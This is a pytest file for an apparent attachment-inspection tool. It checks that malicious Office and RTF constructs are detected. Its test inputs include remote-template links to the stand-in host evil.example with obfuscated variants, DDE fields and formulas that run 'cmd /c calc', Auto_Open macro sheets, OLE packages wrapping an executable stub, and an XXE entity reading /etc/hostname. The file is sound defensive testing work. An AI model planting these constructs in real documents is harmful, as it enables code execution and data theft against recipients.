"""Office: macros, fields, remote templates, encryption, packages."""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from msoffcrypto.format.ooxml import OOXMLFile
from sekisho_core.vocabulary import Origin, Reading
from sekisho_inspection import biff, objects
from sekisho_inspection.notes import Item, Notes
from sekisho_inspection.settings import InspectionSettings

Read = Callable[..., Reading]
Attach = Callable[..., bytes]
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
RELATION = (
    '<Relationships><Relationship Id="r" Type="http://schemas.example/{kind}" Target="{target}" TargetMode="{mode}"/>'
    "</Relationships>"
)


def ooxml(**members: str | bytes) -> bytes:
    """A word-processing document; `__` in a name is a slash, `_` a dot at its end."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        for name, content in {"word__document_xml": "<w:document/>", **members}.items():
            folder, _, rest = name.rpartition("__")
            stem, _, ending = rest.rpartition("_")
            archive.writestr(f"{folder.replace('__', '/')}/{stem}.{ending}", content)
    return file.getvalue()


def kinds(reading: Reading) -> set[str]:
    """Every kind of finding."""
    return {item.kind for item in reading.findings}


@pytest.mark.parametrize(
    ("kind", "target", "mode", "expected"),
    [
        ("attachedTemplate", "http://evil.example/t.dotm", "External", {"office-remote-template"}),
        ("attachedTemplate", "&#104;ttp://evil.example/t.dotm", "External", {"office-remote-template"}),
        ("attachedTemplate", "\\\\evil.example\\t.dotm", "External", {"office-remote-template"}),
        ("oleObject", "mhtml:http://evil.example/x!y", "External", {"office-remote-template"}),
        ("attachedTemplate", "file:///C:\\Users\\x\\Normal.dotm", "External", set()),
        ("attachedTemplate", "file:///\\\\server\\templates\\x.dotm", "External", set()),
        ("attachedTemplate", "file:///\\\\evil.example\\x.dotm", "External", {"office-remote-template"}),
        ("attachedTemplate", "http://intranet/x.dotm", "External", set()),
        ("attachedTemplate", "http://3221225985/x.dotm", "External", {"office-remote-template"}),
        ("attachedTemplate", "http://0xC0000201/x.dotm", "External", {"office-remote-template"}),
        ("attachedTemplate", "http://user@evil.example:80/x.dotm", "External", {"office-remote-template"}),
        ("attachedTemplate", "\\\\evil.example@SSL@443\\x.dotm", "External", {"office-remote-template"}),
        ("hyperlink", "http://good.example/", "External", set()),
        ("attachedTemplate", "http://evil.example/t.dotm", "Internal", set()),
    ],
)
def test_relations(read: Read, attach: Attach, kind: str, target: str, mode: str, expected: set[str]) -> None:
    """B44: targets that are fetched on opening are found; local templates and links are not."""
    relations = RELATION.format(kind=kind, target=target, mode=mode)
    for source in (relations.encode(), relations.encode("utf-16")):
        reading = read(attach("x", ("a.docx", ooxml(word___rels__settings_xml_rels=source))))
        assert kinds(reading) == expected
        assert not reading.incomplete


def test_links_and_text(read: Read, attach: Attach) -> None:
    """Hyperlinks and the document's text give URLs."""
    relations = RELATION.format(kind="hyperlink", target="http://link.example/a", mode="External")
    text = "<w:p><w:r><w:t>see http://te</w:t></w:r><w:r><w:t>xt.example/b</w:t></w:r></w:p>"
    reading = read(attach("x", ("a.docx", ooxml(word___rels__document_xml_rels=relations, word__document_xml=text))))
    urls = {item.value for item in reading.observables if item.path == "url:value"}
    assert {"http://link.example/a", "http://text.example/b"} <= urls
    assert reading.parts[1].type.endswith("wordprocessingml.document")


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (
            "<w:instrText>DDE</w:instrText><w:r/><w:instrText xml:space='preserve'>AUTO cmd /c x</w:instrText>",
            {"office-dde"},
        ),
        ('<w:fldSimple w:instr=" DDE excel sheet"/>', {"office-dde"}),
        ("<w:instrText> PAGE </w:instrText>", set()),
        ("<w:t>DDEAUTO in a text</w:t>", set()),
    ],
)
def test_dde(read: Read, attach: Attach, source: str, expected: set[str]) -> None:
    """B43: DDE fields are found when split over runs; the word alone is none."""
    assert kinds(read(attach("x", ("a.docx", ooxml(word__document_xml=source))))) == expected


def test_workbook_links_and_macro_sheets(read: Read, attach: Attach) -> None:
    """B43: DDE links, Excel 4 macro sheets and their auto-run names in workbooks."""
    book = '<workbook><definedName name="_xlnm.Auto_Open">x</definedName></workbook>'
    content = ooxml(
        xl__macrosheets__sheet1_xml="<x/>",
        xl__workbook_xml=book,
        xl__externalLinks__e_xml='<ddeLink ddeService="cmd"/>',
    )
    assert kinds(read(attach("x", ("a.xlsm", content)))) == {"office-macro", "office-auto-macro", "office-dde"}


def test_old_workbooks() -> None:
    """B43: the records of an old workbook that start something."""

    def record(kind: int, payload: bytes) -> bytes:
        return struct.pack("<HH", kind, len(payload)) + payload

    sheet = record(0x85, struct.pack("<LBB", 0, 0, 1) + b"\x06\0Macro1")
    name = record(0x18, struct.pack("<HBBHHHBBBB", 0x20, 0, 1, 0, 0, 0, 0, 0, 0, 0) + b"\0\x01")
    link = record(0x1AE, struct.pack("<HHB", 0, 11, 0) + b"cmd\x03/c calc")
    book = biff.workbook(sheet + name + link)
    assert [(one.name, one.macros) for one in book.sheets] == [("Macro1", True)]
    assert [one for one, _ in book.names] == ["Auto_Open"]
    assert book.links == ["cmd /c calc"]
    assert not biff.workbook(record(0x85, struct.pack("<LBB", 0, 0, 0) + b"\x06\0Sheet1") + name).sheets[0].macros
    assert biff.workbook(b"\xff" * 50).sheets == []


@pytest.mark.parametrize(
    ("text", "password", "state"),
    [
        ("x", "VelvetSweatshop", "opened"),
        ("開くパスワード：Yomi#10", "Yomi#10", "opened"),
        ("パスワードは別送", "Yomi#10", "locked"),
    ],
)
def test_encryption(read: Read, attach: Attach, text: str, password: str, state: str) -> None:
    """B46: Excel's built-in password and the mail's open a file, whose inside is then read; else it is incomplete."""
    relations = RELATION.format(kind="attachedTemplate", target="http://evil.example/t", mode="External")
    # The library's own writer makes no valid container of less than 4 KB.
    filler = random.Random(1).randbytes(6000)
    plain, out = io.BytesIO(ooxml(word___rels__settings_xml_rels=relations, word__filler_bin=filler)), io.BytesIO()
    OOXMLFile(plain).encrypt(password, out)
    reading = read(attach(text, ("a.docx", out.getvalue())))
    assert reading.parts[1].state.value == state
    assert ("office-remote-template" in kinds(reading)) == (state == "opened")
    assert {gap.reason for gap in reading.incomplete} == (set() if state == "opened" else {"locked"})


def test_damaged_files_are_incomplete(read: Read, attach: Attach, tmp_path: Path) -> None:
    """B47, B48: a damaged document and a damaged compound file are incomplete, never clean."""
    for content in (ooxml()[:-30], b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600):
        reading = read(attach("x", ("a.doc", content)))
        assert reading.incomplete
        assert reading.parts[1].id == "2"


def test_no_entities_are_resolved(read: Read, attach: Attach) -> None:
    """B49: external and recursive entities stay letters."""
    source = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname"><!ENTITY y "&y;&y;">]><w:p>&x;&y;</w:p>'
    reading = read(attach("x", ("a.docx", ooxml(word__document_xml=source))))
    assert any("&x;&y;" in text.text for text in reading.texts)


def test_rtf(read: Read, attach: Attach) -> None:
    """B44, B45: an RTF's remote template and DDE field are found, and its packaged program is a part."""
    program = b"MZ" + b"\0" * 80
    package = (
        b"\x02\0a.exe\0c:\\a.exe\0\0\0\x03\0"
        + struct.pack("<L", 6)
        + b"a.exe\0"
        + struct.pack("<L", len(program))
        + program
    )
    header = struct.pack("<LLL", 0x501, 2, 8) + b"Package\0" + struct.pack("<LLL", 0, 0, len(package))
    content = b"{\\rtf1{\\*\\template http://evil.example/t}{\\field{\\*\\fldinst DDEAUTO cmd x}}"
    content += b"{\\object\\objemb{\\*\\objdata "
    reading = read(attach("x", ("a.doc", content + (header + package).hex().encode() + b"}}}")))
    assert {"office-remote-template", "office-dde", "executable"} <= kinds(reading)
    assert any(part.id == "2.1" and part.size == len(program) for part in reading.parts)


@pytest.mark.parametrize(
    ("path", "data", "expected"),
    [
        (b"C:\\Windows\\System32\\calc.exe", b"", {"executable"}),
        (b"C:\\Users\\x\\report.docx", b"", set()),
        (b"C:\\a.exe", struct.pack("<L", 5) + b"bytes", {"office-package"}),
    ],
    ids=["link to a program", "link to a document", "file"],
)
def test_packages(limits: InspectionSettings, path: bytes, data: bytes, expected: set[str]) -> None:
    """B44: a package without data is a link that a double click follows; one with data has its file as a child."""
    body = b"\x02\0" + path.rpartition(b"\\")[2] + b"\0" + path + b"\0" + b"\0" * 3 + b"\x01" + b"\0" * 4
    notes = Notes(limits)
    stream = struct.pack("<L", len(body)) + body + path + b"\0" + data
    objects.note_package(stream, "Ole10Native", Item("1", b"", (), "", Origin(), 1), notes)
    assert {finding.kind for finding in notes.findings} == expected
    assert [item.content for item in notes.queue] == ([b"bytes"] if data else [])


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("""<Cell ss:Formula="=cmd|'/c calc'!A1"/>""", {"office-dde"}),
        ("<Cell ss:Formula='=cmd|&apos;/c calc&apos;!A1'/>", {"office-dde"}),
        ("<SupBook><Path>cmd|/c calc</Path></SupBook>", {"office-dde"}),
        ("<x:SupBook><x:Path> cmd|/c calc</x:Path></x:SupBook>", {"office-dde"}),
        ('<Cell ss:Formula="=SUM(R1C1:R2C1)"/><Data>a|b!c</Data>', set()),
        ("<SupBook><Path>Book1.xls</Path></SupBook><Data>a|b</Data>", set()),
    ],
)
def test_workbooks_of_2003(read: Read, attach: Attach, source: str, expected: set[str]) -> None:
    """B43: DDE in a workbook in one XML file, as a formula and as an outside book; a bar in a cell is none."""
    mark = "<?xml version='1.0'?><?mso-application progid='Excel.Sheet'?><Workbook>"
    assert kinds(read(attach("x", ("a.xml", f"{mark}{source}</Workbook>".encode())))) == expected
